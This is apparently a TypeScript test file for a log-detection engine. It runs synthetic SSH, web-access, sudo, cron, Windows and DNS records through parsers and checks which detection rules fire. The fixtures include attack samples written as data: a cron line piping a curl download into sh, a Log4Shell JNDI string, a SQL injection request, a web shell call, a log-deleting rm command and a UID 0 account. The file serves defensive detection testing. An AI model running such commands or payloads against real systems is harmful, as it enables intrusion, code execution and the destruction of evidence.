import { fileURLToPath } from 'node:url'
import { describe, expect, it } from 'vitest'
import { parsers } from '../src/collect/parsers/registry.ts'
import { loadRuleSet } from '../src/detect/rule-set.ts'
import type { StoredEvent } from '../src/kernel/event.ts'
import type { JsonObject } from '../src/kernel/json.ts'

const folder = fileURLToPath(new URL('../content/detections/', import.meta.url))
const RECEIVED = Date.UTC(2026, 2, 2, 9)

/** Records as shippers hand them over, through the parsers, to our own rules: titles of what fires. */
function titles(records: readonly (string | JsonObject)[]): string[] {
  const ruleSet = loadRuleSet([folder])
  const events = records.flatMap((each, number): StoredEvent[] => {
    const id = `r${number}`
    const record = typeof each === 'string' ? { id, text: each } : { id, json: each }
    const parser = parsers.find((one) => one.accepts(record))
    const parsed = parser?.parse(record, { received: RECEIVED, zoneMinutes: 0, prefer: [] }) ?? []
    if (parser === undefined || 'unknown' in parsed) throw new Error(`no parser read ${JSON.stringify(each)}`)
    return parsed.map(({ observed = RECEIVED, ecs }, index) => ({
      ...{ id: `${id}-${index}`, scope: 'default', source: 'test', parser: parser.id, writer: 'w', sequence: number, index },
      observed,
      received: RECEIVED,
      doc: ecs,
    }))
  })
  return [...new Set(ruleSet.run(events, true).map(({ rule }) => rule.title))].sort()
}

const sshd = (second: number, message: string): string =>
  `Mar  2 08:58:${String(second).padStart(2, '0')} web-03 sshd[812]: ${message}`
const access = (second: number, request: string, status: number, agent = 'Mozilla/5.0'): string =>
  `198.51.100.23 - - [02/Mar/2026:08:58:${String(second).padStart(2, '0')} +0000] "${request} HTTP/1.1" ${status} 512 "-" "${agent}"`
const times = <T>(count: number, make: (index: number) => T): T[] => Array.from({ length: count }, (_, index) => make(index))

/** Flat Windows JSON, as in NXLog and OTRF recordings. */
const flat = (channel: string, id: number, data: JsonObject): JsonObject => ({
  '@timestamp': '2026-03-02T08:58:00.000Z',
  Channel: channel,
  EventID: id,
  Hostname: 'ws-07.example.test',
  SourceName: channel === 'Security' ? 'Microsoft-Windows-Security-Auditing' : 'Microsoft-Windows-Sysmon',
  ...data,
})
const rdp = (host: string): JsonObject => ({
  Event: {
    System: {
      Provider: { '#attributes': { Name: 'Microsoft-Windows-Security-Auditing' } },
      EventID: 4624,
      Channel: 'Security',
      Computer: host,
      EventRecordID: 7,
      TimeCreated: { '#attributes': { SystemTime: '2026-03-02T08:58:00.000Z' } },
    },
    EventData: { TargetUserName: 'tanaka', TargetDomainName: 'EXAMPLE', LogonType: 10, IpAddress: '10.0.4.17' },
  },
})

const CASES: readonly [name: string, records: readonly (string | JsonObject)[], expected: readonly string[]][] = [
  [
    'brute force over SSH, then a success',
    [
      ...times(11, (index) => sshd(index, `Failed password for invalid user admin from 203.0.113.5 port ${4000 + index} ssh2`)),
      sshd(30, 'Accepted password for sato from 203.0.113.5 port 4711 ssh2'),
    ],
    ['Guessed password: many failed logins, then one that works', 'Many failed logins from one address'],
  ],
  [
    'ten refusals, each with the lines that go with it',
    times(10, (index) => index).flatMap((index) => [
      sshd(index, `Invalid user admin from 203.0.113.5 port ${4000 + index}`),
      sshd(index, 'pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=203.0.113.5'),
      sshd(index, `Failed password for invalid user admin from 203.0.113.5 port ${4000 + index} ssh2`),
    ]),
    [],
  ],
  [
    'credential stuffing in an access log',
    [...times(20, (index) => access(index, 'POST /login', 401)), access(40, 'POST /login', 302)],
    ['Credential stuffing on a login page', 'Credential stuffing that worked'],
  ],
  ['a web shell is called', [access(1, 'POST /uploads/a.php?c=id', 200)], ['Script requested from an upload folder']],
  ['injection', [access(1, 'GET /item?id=1%20UNION%20SELECT%201,2', 500)], ['SQL injection in a request']],
  [
    'Log4Shell',
    [access(1, 'GET /', 200, '\u0024{jndi:ldap://203.0.113.9/a}')],
    ['JNDI lookup in a request (Log4Shell)', 'Shell function or lookup in a request header'],
  ],
  [
    'sudo',
    [
      'Mar  2 08:58:00 web-03 sudo:     sato : TTY=pts/0 ; PWD=/home/sato ; USER=root ; COMMAND=/bin/rm -f /var/log/auth.log',
      'Mar  2 08:58:01 web-03 sudo:    guest : user NOT in sudoers ; TTY=pts/1 ; PWD=/home/guest ; USER=root ; COMMAND=/bin/ls',
      'Mar  2 08:58:02 web-03 sudo:     sato : TTY=pts/0 ; PWD=/home/sato ; USER=root ; COMMAND=/usr/bin/apt update',
    ],
    ['Linux log files removed or emptied', 'User is not in sudoers'],
  ],
  [
    'a second root',
    ['Mar  2 08:58:00 web-03 useradd[9]: new user: name=sys, UID=0, GID=0, home=/root, shell=/bin/bash'],
    ["Account with root's number", 'Linux user created'],
  ],
  [
    'a cron job that fetches',
    ['Mar  2 08:58:00 web-03 CRON[9]: (root) CMD (curl -s http://203.0.113.9/x | sh)'],
    ['Cron job that fetches or connects', 'Download piped into a shell'],
  ],
  [
    'remote desktop to three hosts',
    ['srv-01', 'srv-02', 'srv-03'].map(rdp),
    ['One account on three or more hosts by remote desktop'],
  ],
  ['remote desktop to two hosts', ['srv-01', 'srv-02', 'srv-02'].map(rdp), []],
  [
    'an exfiltration tool, seen by Sysmon',
    [
      flat('Microsoft-Windows-Sysmon/Operational', 1, {
        Image: 'C:\\Tools\\plink.exe',
        CommandLine: 'plink.exe -V',
        ParentImage: 'C:\\Windows\\explorer.exe',
      }),
    ],
    ['Tool for tunnelling or copying data out'],
  ],
  [
    'the security log is cleared',
    [flat('Security', 1102, { SourceName: 'Microsoft-Windows-Eventlog' })],
    ['Windows event log cleared'],
  ],
  [
    'a DNS tunnel in ECS',
    times(1001, (index) => ({
      '@timestamp': new Date(Date.UTC(2026, 2, 2, 8, 52) + index * 100).toISOString(),
      ecs: { version: '8.11.0' },
      event: { category: ['network'], type: ['protocol'] },
      dns: { question: { name: `${index}.${'abcdefghij'.repeat(5)}.t.example.net` } },
    })),
    ['DNS tunnel: many queries with long names below one domain'],
  ],
]

describe('our own rules over raw records', () => {
  it.each(CASES)('%s', (_name, records, expected) => {
    expect(titles(records)).toEqual(expected)
  })
})
